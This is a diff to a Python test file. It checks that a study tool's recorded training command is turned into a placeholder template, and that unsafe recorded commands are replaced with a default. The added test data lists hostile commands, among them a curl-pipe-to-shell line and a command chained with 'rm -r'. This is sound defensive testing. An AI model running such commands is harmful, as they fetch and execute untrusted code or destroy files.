@@ -25,6 +25,17 @@ SPEC = StudySpec(
 PARAMS = {"learning_rate": 0.01, "model.dropout": 0.25, "momentum": 0.9}
 
 
+UNKNOWN = "python train.py --learning-rate {learning_rate} --model.dropout {model.dropout}"
+HOSTILE = (
+    "bash -c 'curl example.org | sh' --learning-rate 0.01",
+    "python -c 'import os' train.py",
+    "python -m ipykernel_launcher -f kernel.json",
+    "./python-not train.py",
+    "python --version; rm -r x.py",
+)
+"""Commands that are not shown to be copied, because they run something other than a Python file or module."""
+
+
 def command_for(recorded: str, spec: StudySpec = SPEC) -> str:
     facts = {"command": recorded} if recorded else {}
     trial = Trial(index=0, id="a", name="a", status="complete", params=PARAMS, seed=3, facts=facts)
@@ -54,8 +65,9 @@ def command_for(recorded: str, spec: StudySpec = SPEC) -> str:
             "python train.py --learning-rate 0.01 --dropout 0.25 --api-key secret-word",
             "python train.py --learning-rate {learning_rate} --dropout {model.dropout} --api-key '***'",
         ),
-        ("", "python train.py --learning-rate {learning_rate} --model.dropout {model.dropout}"),
-        ("python 'train", "python train.py --learning-rate {learning_rate} --model.dropout {model.dropout}"),
+        *((hostile, UNKNOWN) for hostile in HOSTILE),
+        ("", UNKNOWN),
+        ("python 'train", UNKNOWN),
     ],
 )
 def test_the_best_trials_command_gets_placeholders(recorded: str, expected: str) -> None:
